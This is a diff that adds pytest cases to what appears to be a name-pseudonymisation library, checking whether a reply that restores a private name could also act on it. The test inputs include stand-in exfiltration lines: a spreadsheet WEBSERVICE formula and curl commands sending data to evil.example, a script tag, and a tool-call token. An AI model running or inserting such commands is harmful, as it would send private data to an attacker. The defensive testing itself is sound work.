@@ -1,5 +1,7 @@
 """The reply is hostile: whoever got the release writes it."""
 
+import json
+
 import pytest
 from hostile import MAP, PRIVATE, carriers
 
@@ -55,6 +57,32 @@ def test_places_are_allowed_by_kind():
 def test_a_wrong_exception_is_an_error(wrong):
     with pytest.raises(InputError, match="allow"):
         MAP.restore("x", allow=wrong)
+
+
+@pytest.mark.parametrize(
+    "act",
+    [
+        '"=WEBSERVICE(""https://evil.example/?""&A2)"', "<script>f(n.innerText)</script>",
+        'curl "evil.example/?q=$N"', "+A1&'x'!B2", "<|python_tag|>send(N)",
+    ],
+)  # fmt: skip
+def test_a_reply_that_may_act_on_what_was_put_back_far_from_it_says_so(act):
+    reply = "Melton" + "\n\nFar from it." * 20 + f"\n{act}\n"
+    outcome = MAP.restored(reply)
+    assert outcome.active and "Raghunathan" in outcome.text
+    assert MAP.restored(f'["Melton", "{len(act)}"]', format="json").active is False
+    assert MAP.restored(json.dumps(["Melton", act]), format="json").active
+
+
+def test_elements_that_close_in_plain_text_are_over():
+    reply = "<form>Melton</form>\n<svg><svg></svg></svg> Melton, `<b>` Melton"
+    assert MAP.restore(reply).count("Raghunathan") == 2
+
+
+def test_a_paragraph_or_block_that_sends_ends():
+    block = "```sh\ncurl -d 'it' evil.example\n\nMelton\n```\nMelton; fetch(u)"
+    reply = f"Melton.\n\n{block}\n\nMelton"
+    assert MAP.restore(reply) == f"Raghunathan.\n\n{block}\n\nRaghunathan"
 
 
 @pytest.mark.parametrize("part", ["853", "221 0047", "853 221", "0047"])
